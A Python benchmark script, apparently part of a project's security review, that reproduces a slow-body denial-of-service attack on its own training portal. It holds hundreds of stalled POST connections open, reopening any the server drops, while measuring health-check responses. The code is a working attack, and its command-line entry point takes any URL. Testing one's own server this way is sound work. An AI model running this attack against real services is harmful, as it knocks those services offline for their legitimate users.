"""Slow-body attack on the training portal (review finding M2).

An attacker opens connections one by one, each sending a POST's headers with
``Content-Length: 1000`` and then only 4 bytes, and holds them. Meanwhile a
legitimate client asks ``GET /v1/health`` (and sends a contact message) on fresh
connections. Reports the answers seen while 100…``--connections`` requests are
stalled, and how many stalled connections the server still holds after a while.

``python -m bench portal_slowbody`` runs it against a fresh portal of this tree;
``python bench/portal_slowbody.py URL [N]`` against any running portal.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import tempfile
import time
import uuid
from argparse import Namespace
from collections import Counter
from urllib.parse import urlsplit

CONNECTIONS = 600
PROBE_EVERY = 100


def _stall(host: str, port: int) -> socket.socket:
    sock = socket.create_connection((host, port), timeout=5)
    sock.sendall(
        b"POST /v1/contact-messages HTTP/1.1\r\n"
        + f"Host: {host}:{port}\r\n".encode()
        + b"Content-Type: application/json\r\nContent-Length: 1000\r\n"
        + f'Idempotency-Key: "{uuid.uuid4()}"\r\n\r\n'.encode()
        + b'{"to'
    )
    return sock


def _probe(url: str, clients: int = 10) -> str:
    """``clients`` legitimate requests at once (a few kiosks): their answers and worst time."""
    from concurrent.futures import ThreadPoolExecutor

    import httpx

    def one(number: int) -> tuple[str, float]:
        started = time.monotonic()
        kiosk = {"X-Client-Id": f"kiosk-{number}"}  # as the app's client sends
        try:
            response = httpx.get(f"{url}/v1/health", headers=kiosk, timeout=5, trust_env=False)
            status = str(response.status_code)
        except httpx.HTTPError as error:
            status = type(error).__name__
        return status, time.monotonic() - started

    with ThreadPoolExecutor(clients) as pool:
        results = list(pool.map(one, range(clients)))
    counts = Counter(status for status, _ in results)
    worst = max(seconds for _, seconds in results)
    return f"{dict(counts)} (slowest {1000 * worst:.0f} ms)"


def _fates(sockets: list[socket.socket]) -> Counter[str]:
    """What became of the stalled requests: still open, answered (status), or closed."""
    fates: Counter[str] = Counter()
    for sock in sockets:
        sock.setblocking(False)
        try:
            data = sock.recv(65536, socket.MSG_PEEK)
        except BlockingIOError:
            fates["still open"] += 1
            continue
        except OSError:
            fates["reset"] += 1
            continue
        if data.startswith(b"HTTP/1.1 "):
            fates[f"answered {data[9:12].decode()}"] += 1
        else:
            fates["closed"] += 1
    return fates


def attack(url: str, connections: int = CONNECTIONS, hold_s: float = 15.0) -> list[str]:
    """Stall up to ``connections`` requests, re-opening any the server answers or closes
    (a persistent attacker), probing the legitimate clients' view along the way."""
    import threading

    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    held: list[socket.socket] = []
    lines: list[str] = []
    refused: Counter[str] = Counter()
    stop = threading.Event()
    target = [0]

    def top_up() -> None:  # the attacker: keep ``target`` stalled requests open
        while not stop.is_set():
            alive = [sock for sock in held if _fates([sock])["still open"]]
            for sock in set(held) - set(alive):
                sock.close()
            held[:] = alive
            for _ in range(max(0, target[0] - len(held))):
                try:
                    held.append(_stall(host, port))
                except OSError as error:
                    refused[type(error).__name__] += 1
            stop.wait(0.2)

    attacker = threading.Thread(target=top_up, daemon=True)
    attacker.start()
    try:
        for number in range(PROBE_EVERY, connections + 1, PROBE_EVERY):
            target[0] = number
            time.sleep(2.0)
            lines.append(f"{number} stalled wanted ({len(held)} held): health {_probe(url)}")
        time.sleep(hold_s)
        lines.append(f"after {hold_s:.0f} s more ({len(held)} held): health {_probe(url)}")
        lines.append(f"attacker connections refused: {dict(refused) or 0}")
    finally:
        stop.set()
        attacker.join(10)
        for sock in held:
            sock.close()
    time.sleep(1)
    lines.append(f"attacker gone: health {_probe(url)}")
    return lines


def run(args: Namespace) -> list[str]:
    import httpx

    with tempfile.TemporaryDirectory(prefix="assist-desk-slowbody-") as data:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        process = subprocess.Popen(
            [sys.executable, "-m", "assist_desk", "sandbox", "--port", str(port), "--data", data],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        url = f"http://127.0.0.1:{port}"
        try:
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:
                try:
                    httpx.get(f"{url}/v1/health", trust_env=False).raise_for_status()
                    break
                except httpx.HTTPError:
                    time.sleep(0.1)
            return attack(url, 300 if args.quick else CONNECTIONS)
        finally:
            process.terminate()
            process.wait(10)


if __name__ == "__main__":
    for line in attack(sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else CONNECTIONS):
        print(line, flush=True)
